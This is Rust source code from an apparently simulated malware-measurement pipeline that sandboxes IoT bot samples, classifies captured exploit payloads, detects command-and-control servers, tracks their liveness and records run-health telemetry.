            emu.short_rate,
            emu.eintr_rate,
            emu.enomem_rate,
            emu.fd_cap
                .map_or_else(|| "default".to_string(), |c| c.to_string()),
        ));
    }
    let mut sb = Sandbox::new(
        contained_net,
        SandboxConfig {
            bot_ip: BOT_IP,
            mode: AnalysisMode::Contained,
            handshaker_threshold: Some(opts.handshaker_threshold),
            instruction_budget: 400_000_000,
            seed: sample_seed(opts.seed, day, sample_id, SeedStream::ContainedSandbox),
            block_engine: opts.block_engine,
            fd_cap: malnet_sandbox::process::DEFAULT_FD_CAP,
            emu_faults: emu,
        },
    )
    .with_telemetry(tel);
    let art = sb.execute(elf, SimDuration::from_secs(opts.contained_secs));
    drop(sb);
    if art.emu_faults.any() {
        fault_context.push(art.emu_faults.describe());
    }
    let activated = !matches!(art.exit, malnet_sandbox::ExitReason::Fault(_))
        && art.syscalls > 0
        && !matches!(art.exit, malnet_sandbox::ExitReason::Exited(126 | 127));

    // Exploits (D-Exploits).
    let mut exploits = Vec::new();
    for cap in &art.exploits {
        let vulns = exploitdb::classify(&cap.payload);
        if vulns.is_empty() {
            continue;
        }
        let dl = exploitdb::extract_downloader(&cap.payload);
        exploits.push(ExploitRecord {
            sha256: sample.sha256.clone(),
            day,
            vulns,
            port: cap.port,
            downloader: dl.as_ref().map(|(ip, _)| *ip),
            loader: dl.map(|(_, l)| l),
            payload: cap.payload.clone(),
        });
    }

    // C2 candidates — skip P2P-labelled samples (§2.3a).
    let is_p2p = matches!(yara.as_deref(), Some("mozi") | Some("hajime"));
    let candidates = if is_p2p {
        Vec::new()
    } else {
        detect_c2(&art, BOT_IP)
    };

    if activated {
        tel.add("pipeline.samples_activated", 1);
    }
    tel.add("pipeline.c2_candidates", candidates.len() as u64);
    tel.add("pipeline.exploits_classified", exploits.len() as u64);

    ContainedOutcome {
        sample_id,
        yara,
        avclass,
        activated,
        exploits,
        candidates,
        instructions: art.instructions,
        triage,
        exit: exit_label(&art.exit),
        fault_context,
        emu_faults: art.emu_faults,
    }
}

/// Canonical string form of a sandbox exit reason.
fn exit_label(exit: &malnet_sandbox::ExitReason) -> String {
    match exit {
        malnet_sandbox::ExitReason::Exited(code) => format!("exited({code})"),
        malnet_sandbox::ExitReason::Fault(msg) => format!("fault: {msg}"),
        malnet_sandbox::ExitReason::Deadline => "deadline".to_string(),
        malnet_sandbox::ExitReason::Budget => "budget".to_string(),
    }
}

/// Coarse exit class an [`exit_label`] string belongs to — the
/// D-Health `exit_counts` key.
pub fn exit_class(label: &str) -> &'static str {
    if label.starts_with("exited") {
        "exited"
    } else if label.starts_with("fault") {
        "fault"
    } else if label == "budget" {
        "budget"
    } else {
        "deadline"
    }
}

/// D-Health classification of a contained run's [`exit_class`]: which
/// degradation row (if any) the run earns. Total over every class the
/// pipeline produces — `crates/core/tests/health_classification.rs`
/// proves no label falls through.
///
/// A degraded run (`fault` or `budget`) that had syscall-boundary
/// faults injected (`emu_injected`) is attributed to the emulator fault
/// domain ([`HealthKind::EmuFault`]) rather than blamed on the binary:
/// the casualty's proximate cause is chaos we inflicted. Clean exits and
/// deadlines are never reclassified — running out the clock is normal
/// bot behaviour, faults or not.
pub fn degraded_kind(class: &str, emu_injected: bool) -> Option<HealthKind> {
    match class {
        "fault" | "budget" if emu_injected => Some(HealthKind::EmuFault),
        "fault" => Some(HealthKind::SandboxFault),
        "budget" => Some(HealthKind::BudgetExhausted),
        _ => None,
    }
}

/// Run `malnet-xray` over one binary and fold the result into a
/// [`TriageRecord`]. Pure (no RNG, no simulated clock) and
/// per-sample-independent, so it parallelizes with the rest of phase A.
fn static_triage(elf: &[u8], day: u32, sha256: &str, tel: &Telemetry) -> TriageRecord {
    let rep = malnet_xray::analyze(elf);
    tel.add("xray.samples_triaged", 1);
    tel.add("xray.endpoints_extracted", rep.endpoints.len() as u64);
    if !rep.valid_elf {
        tel.add("xray.invalid_elf", 1);
    }
    let mut candidates: Vec<String> = rep.c2_candidates().map(|e| e.addr.clone()).collect();
    candidates.sort_unstable();
    candidates.dedup();
    TriageRecord {
        sha256: sha256.to_string(),
        day,
        valid_elf: rep.valid_elf,
        lints: rep.lints.iter().map(|l| l.code.to_string()).collect(),
        net_capable: rep.text.net_capable(),
        bytecode_records: rep.bytecode_records,
        bytecode_skipped: rep.bytecode_skipped,
        candidates,
        endpoints: rep.endpoints.len(),
    }
}

/// Run phase A for a day's batch, returning outcomes in batch order.
///
/// With `opts.parallelism <= 1` this is a plain sequential loop (the
/// legacy path). Otherwise a scoped thread pool pulls sample indices
/// from a shared counter and writes each outcome into its batch slot, so
/// the returned order — and therefore everything the merge stage does —
/// is independent of thread scheduling.
///
/// A panic inside any sample's contained run is caught on the worker
/// and returned as a [`Quarantined`] casualty in that sample's batch
/// slot — the rest of the batch is unaffected and the pipeline's merge
/// stage records the casualty in D-Health instead of aborting the
/// study.
///
/// Public so the bench harness can time the contained stage in
/// isolation (`malnet-bench`'s `par_sweep`); pipeline callers go
/// through [`Pipeline::run`].
pub fn run_contained_batch(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    batch: &[usize],
    tel: &Telemetry,
) -> Vec<Result<ContainedOutcome, Quarantined>> {
    // Workers re-attach their per-sample spans under the epoch's
    // phase-A span (or wherever the caller sits — the bench harness
    // calls this with no span open, which degrades to a root span).
    let parent = tel.current_span();
    crate::par::fan_out(
        batch.len(),
        opts.parallelism,
        |i| {
            let id = batch[i];
            let _span = tel.span_under("pipeline.contained_sample", &parent);
            std::panic::catch_unwind(AssertUnwindSafe(|| {
                contained_activation(world, opts, day, id, tel)
            }))
            .map_err(|payload| Quarantined {
                sample_id: id,
                detail: panic_message(payload.as_ref()),
                fault_context: if opts.faults.forced_panic(day, id) {
                    vec!["forced worker panic".to_string()]
                } else {
                    Vec::new()
                },
            })
        },
        |i| {
            Err(Quarantined {
                sample_id: batch[i],
                detail: "phase-A batch slot was never filled".to_string(),
                fault_context: Vec::new(),
            })
        },
    )
}

/// Best-effort extraction of a panic payload's message.
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

fn family_from_label(label: Option<&str>) -> Option<Family> {
    match label? {
        "mirai" => Some(Family::Mirai),
        "gafgyt" => Some(Family::Gafgyt),
        "tsunami" => Some(Family::Tsunami),
        "daddyl33t" => Some(Family::Daddyl33t),
        "mozi" => Some(Family::Mozi),
        "hajime" => Some(Family::Hajime),
        "vpnfilter" => Some(Family::VpnFilter),
        _ => None,
    }
}

/// One liveness sweep over `targets` (`(addr, ip, port)`) from the
/// monitor host: every target gets a SYN; misses are re-probed up to
/// `syn_retries` more times with linear backoff (8 s, 16 s, 24 s, …).
/// Returns the addresses that completed a TCP handshake in any round.
///
/// The retry loop is the defence against transient loss: with
/// `syn_retries == 0` a single dropped SYN (or a C2 mid-reboot) reads
/// as "dead", and under the tracking grace policy a couple of such
/// windows erases a live C2's entry — the bug the
/// `syn_retry_survives_transient_loss` regression test pins down.
///
/// The `pipeline.liveness_retries` counter ticks once per re-probe SYN
/// actually sent (a retry-round connection for a still-pending target),
/// never ahead of the probe itself — semantics pinned by the
/// `liveness_retry_counter_counts_actual_reprobes` regression test.
///
/// Public so the regression suite can drive the sweep against a
/// hand-built network; the pipeline calls it from the reduce's daily
/// sweep (via the per-address liveness oracle).
pub fn liveness_probe_rounds(
    net: &mut Network,
    targets: &[(String, Ipv4Addr, u16)],
    syn_retries: u32,
    tel: &Telemetry,
) -> Vec<String> {
    let added = !net.has_host(MONITOR_IP);
    if added {
        net.add_external_host(MONITOR_IP);
    }
    let mut live: Vec<String> = Vec::new();
    let mut pending: Vec<(String, Ipv4Addr, u16)> = targets.to_vec();
    for attempt in 0..=syn_retries {
        if pending.is_empty() {
            break;
        }
        let mut socks: BTreeMap<u64, String> = BTreeMap::new();
        for (addr, ip, port) in &pending {
            // Count each re-probe as it is sent — a retry that never
            // happens (everything already answered) must not count.
            if attempt > 0 {
                tel.add("pipeline.liveness_retries", 1);
            }
            let sock = net.ext_tcp_connect(MONITOR_IP, *ip, *port);
            socks.insert(sock.0, addr.clone());
        }
        net.run_for(SimDuration::from_secs(8 * (u64::from(attempt) + 1)));
        for ev in net.ext_events(MONITOR_IP) {
            if let SockEvent::Connected(s) = ev {
                if let Some(addr) = socks.get(&s.0) {
                    live.push(addr.clone());
                }
            }
        }
        for &sock in socks.keys() {
            net.ext_tcp_abort(MONITOR_IP, malnet_netsim::stack::SockId(sock));
        }
        net.run_for(SimDuration::from_secs(1));
        net.ext_events(MONITOR_IP);
        pending.retain(|(addr, _, _)| !live.contains(addr));
    }
    if added {
        net.remove_host(MONITOR_IP);
    }
    live
}

/// TCP liveness probe from the monitor host.
fn tcp_probe(net: &mut Network, ip: Ipv4Addr, port: u16) -> bool {
    let added = !net.has_host(MONITOR_IP);
    if added {
        net.add_external_host(MONITOR_IP);
    }
    let sock = net.ext_tcp_connect(MONITOR_IP, ip, port);
    net.run_for(SimDuration::from_secs(8));
    let mut live = false;
    for ev in net.ext_events(MONITOR_IP) {
        if let SockEvent::Connected(s) = ev {
            if s == sock {
                live = true;
            }
        }
    }
    net.ext_tcp_abort(MONITOR_IP, sock);
    net.run_for(SimDuration::from_secs(1));
    net.ext_events(MONITOR_IP);
    if added {
        net.remove_host(MONITOR_IP);
    }
    live
}

/// Resolve a domain against the world resolver.
fn resolve_on(net: &mut Network, domain: &str) -> Option<Ipv4Addr> {
    let name = DomainName::new(domain).ok()?;
    let added = !net.has_host(MONITOR_IP);
    if added {
        net.add_external_host(MONITOR_IP);
    }
    net.with_external(MONITOR_IP, |s| {
        s.udp_bind(45353);
        ((), vec![])
    });
    let q = DnsMessage::query(7, name);
    net.ext_udp_send(
        MONITOR_IP,
        45353,
        malnet_botgen::world::WORLD_RESOLVER,
        53,
        q.encode(),
    );
    net.run_for(SimDuration::from_secs(3));
    let mut answer = None;
    for ev in net.ext_events(MONITOR_IP) {
        if let SockEvent::UdpData { data, .. } = ev {
            if let Ok(msg) = DnsMessage::decode(&data) {
                if let Some((_, ip, _)) = msg.answers.first() {
                    answer = Some(*ip);
                }
            }
        }
    }
    if added {
        net.remove_host(MONITOR_IP);
    }
    answer
}

/// Pick the probing weapons: one Mirai and one Gafgyt sample with clean
/// call-home behaviour (no exploit arsenal, no sandbox evasion, runs
/// reliably). The paper's operators likewise hand-selected two known-good
/// samples for the probing study (§2.3b).
fn probe_weapons(world: &World) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for fam in [Family::Mirai, Family::Gafgyt] {
        if let Some(s) = world.samples.iter().find(|s| {
            s.family == fam && !s.corrupted && s.spec.exploits.is_empty() && !s.spec.evasive
        }) {
            out.push(s.elf.clone());
        }
    }
    out
}
