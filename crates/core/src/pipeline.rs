//! The daily MalNet loop (paper §2): collect → vet → activate → extract
//! → cross-validate → track.
//!
//! For every study day with new feed items the pipeline:
//!
//! 1. vets each binary (≥ 5 AV engines, §2.2) and labels it (YARA +
//!    AVClass2),
//! 2. activates it in the **contained** sandbox (InetSim-faked Internet)
//!    to extract C2 candidates (§2.1 mode 1) and exploit payloads via the
//!    handshaker (§2.4),
//! 3. queries the intelligence feeds for each C2 address on the discovery
//!    day (§2.3a / §3.3),
//! 4. checks day-0 liveness against the real (simulated) Internet and
//!    keeps probing known C2s daily to measure observed lifespans (§3.2),
//! 5. for samples with a live, engaging C2, runs a **restricted** session
//!    (C2-only egress) and extracts DDoS commands (§2.5),
//! 6. runs the D-PC2 probing study in its two-week window (§2.3b),
//! 7. re-queries the feeds at the end ("May 7th") for Table 3.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::panic::AssertUnwindSafe;

use malnet_prng::sub_seed;
use malnet_telemetry::{Field as EventField, Telemetry};

use malnet_botgen::exploitdb;
use malnet_botgen::world::World;
use malnet_intel::engines::EngineModel;
use malnet_intel::{avclass2_label, yara_label, VendorDb};
use malnet_netsim::net::Network;
use malnet_netsim::stack::SockEvent;
use malnet_netsim::time::{SimDuration, SimTime, STUDY_DAYS};
use malnet_protocols::Family;
use malnet_sandbox::{AnalysisMode, EmuFaultTally, Sandbox, SandboxConfig};
use malnet_wire::dns::{DnsMessage, DomainName};

use crate::c2detect::detect_c2;
use crate::chaos::FaultPlan;
use crate::datasets::{
    C2Record, Datasets, DdosRecord, ExploitRecord, HealthKind, HealthRecord, SampleRecord,
    TriageRecord,
};
use crate::ddos;
use crate::prober::{self, ProbeConfig};

/// The monitor host used for liveness probes and DNS lookups.
pub const MONITOR_IP: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 7);
/// The sandboxed device address.
pub const BOT_IP: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);

/// Pipeline knobs. Defaults follow the paper; tests shrink durations.
#[derive(Debug, Clone)]
pub struct PipelineOpts {
    /// RNG seed for sandbox runs.
    pub seed: u64,
    /// Virtual seconds of the contained (C2 + exploit extraction) run.
    pub contained_secs: u64,
    /// Virtual seconds of the restricted DDoS-observation session
    /// (paper: 2 hours).
    pub restricted_secs: u64,
    /// Handshaker engagement threshold (paper: 20 distinct addresses).
    pub handshaker_threshold: usize,
    /// Behavioural DDoS threshold in packets/second (paper: 100).
    pub pps_threshold: u64,
    /// AV corroboration bar (paper: 5 engines).
    pub av_bar: u32,
    /// Days to keep re-probing a discovered C2 after it stops answering.
    pub track_grace_days: u32,
    /// Upper bound on tracked days per C2.
    pub track_max_days: u32,
    /// Run the D-PC2 probing study.
    pub run_probing: bool,
    /// Probing rounds (paper: 84 = 14 days × 6).
    pub probe_rounds: u32,
    /// Hosts swept per probing subnet (paper: the full /24).
    pub probe_hosts_per_subnet: u32,
    /// Analyze at most this many samples (tests); `None` = all.
    pub max_samples: Option<usize>,
    /// Run the phase-0 static triage (`malnet-xray`) on every sample
    /// before its contained activation. Observation-only: the triage
    /// result lands in D-Triage and telemetry, and nothing downstream
    /// branches on it, so the dynamic datasets are byte-identical with
    /// triage on or off (enforced by the parallel-determinism suite).
    pub static_triage: bool,
    /// Day of the final feed re-query (paper: 2022-05-07 ≈ day 432).
    pub late_query_day: u32,
    /// Worker threads for the contained-activation stage. `1` (the
    /// default) keeps the fully sequential legacy path; larger values fan
    /// contained sandbox runs out over OS threads. Every value produces
    /// byte-identical datasets: each sample's contained run draws from
    /// its own [`sub_seed`]-derived RNG and results are merged back in
    /// sample-id order (see DESIGN.md).
    pub parallelism: usize,
    /// Deterministic chaos-engineering fault plan. [`FaultPlan::none`]
    /// (the default) injects nothing, draws no randomness, and leaves
    /// every byte of the datasets untouched; any other plan perturbs the
    /// run identically at every parallelism level (enforced by the
    /// determinism suite).
    pub faults: FaultPlan,
    /// Bounded SYN re-probes (with linear backoff) before the daily
    /// liveness sweep or the D-PC2 prober declares a listener dead.
    /// Defaults to `2`: the legacy single-probe behaviour (`0`) let a
    /// one-packet loss window kill a live C2's tracking entry, skewing
    /// the lifespan study toward short lives (see the
    /// `syn_retry_survives_transient_loss` regression test).
    pub syn_retries: u32,
    /// Run guests on the block-cached interpreter (default) or the
    /// legacy stepping oracle. Bit-exact either way — the determinism
    /// suite diffs full dataset dumps across both settings — so this is
    /// purely a speed/differential-testing knob.
    pub block_engine: bool,
}

impl Default for PipelineOpts {
    fn default() -> Self {
        PipelineOpts {
            seed: 22,
            contained_secs: 420,
            restricted_secs: 7200,
            handshaker_threshold: 20,
            pps_threshold: 100,
            av_bar: 5,
            track_grace_days: 2,
            track_max_days: 60,
            run_probing: true,
            probe_rounds: 84,
            probe_hosts_per_subnet: 254,
            max_samples: None,
            static_triage: true,
            late_query_day: STUDY_DAYS + 45,
            parallelism: 1,
            faults: FaultPlan::none(),
            syn_retries: 2,
            block_engine: true,
        }
    }
}

impl PipelineOpts {
    /// A configuration small enough for unit/integration tests while
    /// exercising every stage.
    pub fn fast() -> Self {
        PipelineOpts {
            contained_secs: 150,
            restricted_secs: 4200,
            handshaker_threshold: 5,
            probe_rounds: 12,
            probe_hosts_per_subnet: 30,
            ..Default::default()
        }
    }
}

struct TrackState {
    ip: Ipv4Addr,
    port: u16,
    misses: u32,
    days: u32,
}

/// The pipeline engine.
pub struct Pipeline {
    opts: PipelineOpts,
    vendors: VendorDb,
    engines: EngineModel,
    data: Datasets,
    // BTreeMap, not HashMap: `daily_liveness_sweep` iterates this map
    // and its order decides the order liveness connections are created
    // on the shared network. A hash map would randomize that order
    // across *processes* (`RandomState` is seeded per-process), breaking
    // cross-run reproducibility of the datasets.
    tracking: BTreeMap<String, TrackState>,
    tel: Telemetry,
}

impl Pipeline {
    /// Create a pipeline with telemetry disabled.
    pub fn new(opts: PipelineOpts) -> Self {
        Self::with_telemetry(opts, Telemetry::disabled())
    }

    /// Create a pipeline that records spans/counters into `tel`. The
    /// instrumentation is observation-only — it never draws from any
    /// RNG or reads the simulated clock — so the returned datasets are
    /// byte-identical to an uninstrumented run (enforced by
    /// `crates/core/tests/parallel_determinism.rs`). Snapshot the
    /// results with [`Telemetry::report`] after [`Pipeline::run`].
    pub fn with_telemetry(opts: PipelineOpts, tel: Telemetry) -> Self {
        Pipeline {
            vendors: VendorDb::new(opts.seed),
            engines: EngineModel::new(opts.seed),
            data: Datasets::default(),
            tracking: BTreeMap::new(),
            opts,
            tel,
        }
    }

    /// Run the full study over a world and return the datasets.
    pub fn run(mut self, world: &World) -> (Datasets, VendorDb) {
        let tel = self.tel.clone();
        let _run_span = tel.span("pipeline.run");
        // A run must be a pure function of `(world, opts)`: the C2
        // responsiveness chains live in the world and would otherwise
        // carry state from a previous run over the same `World`.
        world.reset_respond_chains();
        let mut analyzed = 0usize;
        let mut days_with_samples: Vec<u32> = world.publish_days();
        days_with_samples.sort_unstable();
        let last_day = days_with_samples.last().copied().unwrap_or(0) + self.opts.track_max_days;

        // Event-stream lifecycle: every emission below happens on this
        // coordinator thread at a deterministic point (day boundaries,
        // in-order merges), with payloads derived only from simulation
        // state and counters whose day-boundary totals are
        // schedule-independent — so the stream itself is deterministic
        // and provably inert (see telemetry::events).
        tel.event(
            "study_start",
            None,
            &[
                ("seed", EventField::U(self.opts.seed)),
                ("parallelism", EventField::U(self.opts.parallelism as u64)),
                ("samples", EventField::U(world.samples.len() as u64)),
                (
                    "last_day",
                    EventField::U(u64::from(
                        last_day.min(STUDY_DAYS + self.opts.track_max_days),
                    )),
                ),
            ],
        );
        let samples_analyzed = tel.counter("pipeline.samples_analyzed");
        let instructions_retired = tel.counter("sandbox.instructions_retired");
        for day in 0..=last_day.min(STUDY_DAYS + self.opts.track_max_days) {
            let new_samples = world.samples_published_on(day);
            let has_tracking = !self.tracking.is_empty();
            if new_samples.is_empty() && !has_tracking {
                continue;
            }
            let day_span = tel.span("pipeline.day");
            let day_start = tel.stopwatch();
            tel.event(
                "day_start",
                None,
                &[
                    ("day", EventField::U(u64::from(day))),
                    ("new_samples", EventField::U(new_samples.len() as u64)),
                ],
            );
            // One world network per day: shared by liveness probes and
            // restricted sessions.
            let (mut net, _logs) = world.network_for_day(day, self.opts.seed);
            net.set_telemetry(&tel);
            // Only the coordinator's application of the day's fault plan
            // emits chaos events; the workers' re-applications on
            // detached nets describe the same faults.
            apply_world_chaos(&self.opts.faults, world, &mut net, day, &tel, true);
            self.daily_liveness_sweep(&mut net, day);
            // Select the day's batch up front (`samples_published_on`
            // returns ids in ascending order) so the contained stage can
            // fan out while the merge stays canonically ordered.
            let mut batch: Vec<usize> = new_samples.iter().map(|s| s.id).collect();
            if let Some(max) = self.opts.max_samples {
                batch.truncate(max.saturating_sub(analyzed));
            }
            analyzed += batch.len();
            samples_analyzed.add(batch.len() as u64);
            let phase = |name: &str, edge: &str| {
                tel.event(
                    edge,
                    None,
                    &[
                        ("phase", EventField::S(name)),
                        ("day", EventField::U(u64::from(day))),
                    ],
                );
            };
            let outcomes = {
                let _phase_a = tel.span("pipeline.phase_a");
                phase("phase_a", "phase_start");
                let outcomes = run_contained_batch(world, &self.opts, day, &batch, &tel);
                phase("phase_a", "phase_end");
                outcomes
            };
            {
                // Phase B splits in three: B1 replays every world-network
                // effect on the coordinator in sample-id order, B2 fans
                // restricted sessions out over detached per-sample
                // networks, B3 folds their evidence back in sample-id
                // order. Only B2 is parallel; B1/B3 own all shared state.
                let _phase_b = tel.span("pipeline.phase_b");
                phase("phase_b", "phase_start");
                let mut jobs: Vec<RestrictedJob> = Vec::new();
                for outcome in outcomes {
                    match outcome {
                        Ok(out) => {
                            if let Some(job) = self.merge_world_effects(world, &mut net, day, out) {
                                jobs.push(job);
                            }
                        }
                        Err(q) => self.quarantine_sample(world, day, q),
                    }
                }
                let sessions = run_restricted_batch(world, &self.opts, day, &jobs, &tel);
                for session in sessions {
                    self.merge_ddos_evidence(world, day, session);
                }
                phase("phase_b", "phase_end");
            }
            drop(day_span);
            tel.rollup(
                "day",
                &[
                    ("day", u64::from(day)),
                    ("new_samples", batch.len() as u64),
                    ("tracked_c2s", self.tracking.len() as u64),
                    ("c2s_known", self.data.c2s.len() as u64),
                    ("wall_us", day_start.elapsed_us()),
                ],
            );
            // Progress heartbeat + counter snapshot at the day boundary:
            // every fan-out has joined, so counter totals here are pure
            // functions of (world, opts) — no wall clocks involved.
            tel.event(
                "heartbeat",
                None,
                &[
                    ("day", EventField::U(u64::from(day))),
                    ("samples_completed", EventField::U(analyzed as u64)),
                    (
                        "instructions_retired",
                        EventField::U(instructions_retired.get()),
                    ),
                    ("tracked_c2s", EventField::U(self.tracking.len() as u64)),
                ],
            );
            tel.counters_event();
        }

        // Final feed re-query ("May 7th 2022").
        {
            let _late_span = tel.span("pipeline.late_query");
            let late = self.opts.late_query_day;
            for rec in self.data.c2s.values_mut() {
                let v = self.vendors.query(&rec.addr, late);
                rec.vt_late = v.is_malicious();
                rec.vt_late_vendors = v.count();
            }
        }

        // D-PC2 probing study.
        if self.opts.run_probing {
            let weapons = probe_weapons(world);
            if !weapons.is_empty() {
                let _probe_span = tel.span("pipeline.probing");
                let cfg = ProbeConfig {
                    rounds: self.opts.probe_rounds,
                    hosts_per_subnet: self.opts.probe_hosts_per_subnet,
                    syn_retries: self.opts.syn_retries,
                    parallelism: self.opts.parallelism,
                    block_engine: self.opts.block_engine,
                    ..ProbeConfig::from_world(world)
                };
                self.data.probed = prober::run_probing(world, &weapons, &cfg, self.opts.seed, &tel);
            }
        }

        // The final counter snapshot comes after ALL counter movement
        // (probing included) so the stream's fold reconstructs the final
        // report's counters exactly; then the stream is sealed. Both are
        // no-ops without an attached sink.
        tel.counters_event();
        tel.event(
            "study_end",
            None,
            &[
                ("samples_analyzed", EventField::U(analyzed as u64)),
                ("c2s_known", EventField::U(self.data.c2s.len() as u64)),
                ("probed_c2s", EventField::U(self.data.probed.len() as u64)),
            ],
        );
        tel.finish_events();

        (self.data, self.vendors)
    }

    /// Phase-B handling of a sample whose phase-A worker panicked: the
    /// casualty is recorded in D-Health and the study continues. This
    /// replaces the old abort-on-panic behaviour — one crashing sample
    /// must not cost a multi-day study.
    fn quarantine_sample(&mut self, world: &World, day: u32, q: Quarantined) {
        self.tel.add("pipeline.samples_quarantined", 1);
        // Emitted in sample-id order from the B1 merge loop, so the
        // stream position is deterministic.
        self.tel.event(
            "quarantine",
            None,
            &[
                ("sha256", EventField::S(&world.samples[q.sample_id].sha256)),
                ("day", EventField::U(u64::from(day))),
                ("kind", EventField::S("worker-panic")),
                ("detail", EventField::S(&q.detail)),
            ],
        );
        for ctx in &q.fault_context {
            self.tel.event(
                "chaos",
                None,
                &[
                    ("day", EventField::U(u64::from(day))),
                    ("sha256", EventField::S(&world.samples[q.sample_id].sha256)),
                    ("detail", EventField::S(ctx)),
                ],
            );
        }
        *self
            .data
            .health
            .exit_counts
            .entry("worker-panic".to_string())
            .or_insert(0) += 1;
        self.data.health.rows.push(HealthRecord {
            sha256: world.samples[q.sample_id].sha256.clone(),
            day,
            kind: HealthKind::WorkerPanic,
            detail: q.detail,
            fault_context: q.fault_context,
        });
    }

    /// Probe all tracked C2s once on `day` (re-probing misses up to
    /// `opts.syn_retries` times with linear backoff).
    fn daily_liveness_sweep(&mut self, net: &mut Network, day: u32) {
        if self.tracking.is_empty() {
            return;
        }
        let _span = self.tel.span("pipeline.liveness_sweep");
        self.tel
            .add("pipeline.liveness_probes", self.tracking.len() as u64);
        // BTreeMap iteration order: the connect order is canonical.
        let targets: Vec<(String, Ipv4Addr, u16)> = self
            .tracking
            .iter()
            .map(|(addr, t)| (addr.clone(), t.ip, t.port))
            .collect();
        let live = liveness_probe_rounds(net, &targets, self.opts.syn_retries, &self.tel);
        let mut drop_list = Vec::new();
        for (addr, t) in self.tracking.iter_mut() {
            t.days += 1;
            if live.contains(addr) {
                t.misses = 0;
                if let Some(rec) = self.data.c2s.get_mut(addr) {
                    rec.live_days.push(day);
                }
            } else {
                t.misses += 1;
            }
            if t.misses > self.opts.track_grace_days || t.days > self.opts.track_max_days {
                drop_list.push(addr.clone());
            }
        }
        for addr in drop_list {
            self.tracking.remove(&addr);
        }
    }

    /// Phase B1: merge one sample's contained-activation outcome into
    /// the study state on the coordinator thread.
    ///
    /// Every *order-sensitive* effect lives here — vendor registration
    /// and feed queries, DNS resolution and day-0 liveness probes on the
    /// shared world network, tracking-table inserts, and all record
    /// pushes — so calling this in sample-id order reproduces the
    /// canonical sequence no matter how phase A was scheduled. The one
    /// effect that used to live here but is order-*insensitive* — the
    /// restricted DDoS-observation session — is hoisted out: when the
    /// sample activated with live C2s this returns a [`RestrictedJob`]
    /// for the phase-B worker pool ([`run_restricted_batch`]), whose
    /// evidence rejoins the datasets in [`Pipeline::merge_ddos_evidence`].
    fn merge_world_effects(
        &mut self,
        world: &World,
        net: &mut Network,
        day: u32,
        outcome: ContainedOutcome,
    ) -> Option<RestrictedJob> {
        let tel = self.tel.clone();
        let _merge_span = tel.span("pipeline.merge");
        let ContainedOutcome {
            sample_id,
            yara,
            avclass,
            activated,
            exploits,
            candidates,
            instructions,
            triage,
            exit,
            fault_context,
            emu_faults,
        } = outcome;
        self.data.triage.extend(triage);
        let sample = &world.samples[sample_id];
        // Chaos that touched this sample's contained run (binary
        // mutation, injected faults), streamed here — the B1 merge runs
        // on the coordinator in sample-id order — rather than from the
        // racing phase-A workers that observed it.
        for ctx in &fault_context {
            tel.event(
                "chaos",
                None,
                &[
                    ("day", EventField::U(u64::from(day))),
                    ("sha256", EventField::S(&sample.sha256)),
                    ("detail", EventField::S(ctx)),
                ],
            );
        }
        // D-Health accounting: every contained run's exit reason is
        // tallied; sandbox faults (including malformed-ELF rejects) and
        // budget exhaustion get full degradation rows.
        let class = exit_class(&exit);
        *self
            .data
            .health
            .exit_counts
            .entry(class.to_string())
            .or_insert(0) += 1;
        if emu_faults.any() {
            tel.add("chaos.emu_faulted_samples", 1);
        }
        if let Some(kind) = degraded_kind(class, emu_faults.any()) {
            let kind_label = if kind == HealthKind::EmuFault {
                "emu-fault"
            } else {
                class
            };
            tel.event(
                "quarantine",
                None,
                &[
                    ("sha256", EventField::S(&sample.sha256)),
                    ("day", EventField::U(u64::from(day))),
                    ("kind", EventField::S(kind_label)),
                    ("detail", EventField::S(&exit)),
                ],
            );
            self.data.health.rows.push(HealthRecord {
                sha256: sample.sha256.clone(),
                day,
                kind,
                detail: exit.clone(),
                fault_context: fault_context.clone(),
            });
        }
        let av = self
            .engines
            .detections_for_malware()
            .max(sample.av_detections.min(60));

        // Exploits (D-Exploits).
        self.data.exploits.extend(exploits);

        let known_c2s_before = self.data.c2s.len();
        let mut live_c2_ips: Vec<(String, Ipv4Addr, u16, Option<Family>)> = Vec::new();
        let mut c2_addrs = Vec::new();
        for cand in &candidates {
            c2_addrs.push(cand.addr.clone());
            // Resolve DNS candidates against the real resolver.
            let real_ip = if cand.dns {
                tel.add("pipeline.dns_resolutions", 1);
                resolve_on(net, &cand.addr)
            } else {
                Some(cand.ip)
            };
            self.vendors.register(&cand.addr, cand.dns, day);
            let verdict = self.vendors.query(&cand.addr, day);
            let asn = real_ip.and_then(|ip| world.asdb.asn_of(ip)).map(|a| a.0);
            let family_label = cand
                .family_from_traffic
                .or_else(|| family_from_label(yara.as_deref()));
            let rec = self
                .data
                .c2s
                .entry(cand.addr.clone())
                .or_insert_with(|| C2Record {
                    addr: cand.addr.clone(),
                    ip: real_ip.unwrap_or(cand.ip),
                    port: cand.port,
                    dns: cand.dns,
                    asn,
                    first_seen_day: day,
                    samples: vec![],
                    live_days: vec![],
                    vt_day0: verdict.is_malicious(),
                    vt_day0_vendors: verdict.count(),
                    vt_late: false,
                    vt_late_vendors: 0,
                    protocol_verified: cand.family_from_traffic.is_some(),
                    families: vec![],
                });
            if !rec.samples.contains(&sample.sha256) {
                rec.samples.push(sample.sha256.clone());
            }
            if let Some(f) = family_label {
                if !rec.families.contains(&f) {
                    rec.families.push(f);
                }
            }
            rec.protocol_verified |= cand.family_from_traffic.is_some();

            // Day-0 liveness probe on the real network.
            if let Some(ip) = real_ip {
                let live = tcp_probe(net, ip, cand.port);
                if live {
                    // The entry was inserted above; `if let` (rather
                    // than an `expect`) keeps the hot path panic-free.
                    if let Some(rec) = self.data.c2s.get_mut(&cand.addr) {
                        if !rec.live_days.contains(&day) {
                            rec.live_days.push(day);
                        }
                        rec.ip = ip;
                    }
                    self.tracking
                        .entry(cand.addr.clone())
                        .or_insert(TrackState {
                            ip,
                            port: cand.port,
                            misses: 0,
                            days: 0,
                        });
                    live_c2_ips.push((cand.addr.clone(), ip, cand.port, family_label));
                }
            }
        }
        tel.add(
            "pipeline.c2_detected",
            (self.data.c2s.len() - known_c2s_before) as u64,
        );
